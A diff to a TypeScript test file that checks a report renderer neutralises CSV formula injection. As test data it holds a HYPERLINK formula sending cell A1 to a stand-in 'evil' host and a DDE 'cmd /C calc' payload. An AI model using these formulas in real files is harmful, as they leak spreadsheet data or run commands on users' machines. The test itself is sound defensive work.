@@ -35,16 +35,12 @@ function hostileRegress(): RegressResult {
 }
 
 describe('report injection: text from files is neutralised in every format', () => {
-  it('CSV: formula cells get a leading quote, controls are gone, numbers stay numbers', () => {
+  it('CSV: formula cells get a leading quote, controls are gone, line breaks are CRLF, numbers stay numbers', () => {
     const csv = renderCsv(hostileReport());
-    const rows = csv.split('\r\n');
-    assert.equal(rows.at(-1), '', 'CRLF after the last row, no stray line breaks');
-    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /[\x00-\x1f\x7f-\x9f]/);
-    const cells = (rows[1] ?? '').split(',');
-    assert.match(cells[0] ?? '', /^"'=HYPERLINK\(""http:\/\/evil\/""&A1\) all checks passed/);
-    const second = rows.find((r) => r.includes('calc')) ?? '';
-    assert.match(second, /^"'\+cmd\|"" \/C calc""!A0",'@SUM\(1\),'-2\+3\/fp32,completed,\d+,/);
-    for (const row of rows.slice(1, -1)) for (const cell of row.split(',')) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
+    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /[\x00-\x1f\x7f-\x9f]/, 'no control character but CRLF');
+    assert.match(csv, /\r\n"'=HYPERLINK\(""http:\/\/evil\/""&A1\)\r\nall checks passed\uFFFE",/);
+    assert.match(csv, /\r\n"'\+cmd\|"" \/C calc""!A0",'@SUM\(1\),'-2\+3\/fp32,completed,\d+,/);
+    assert.doesNotMatch(csv, /(^|,|\r\n)"?[=+\-@\t]/, 'no cell starts a formula');
   });
 
   it('Markdown: a lone CR does not end a table row or a heading line', () => {
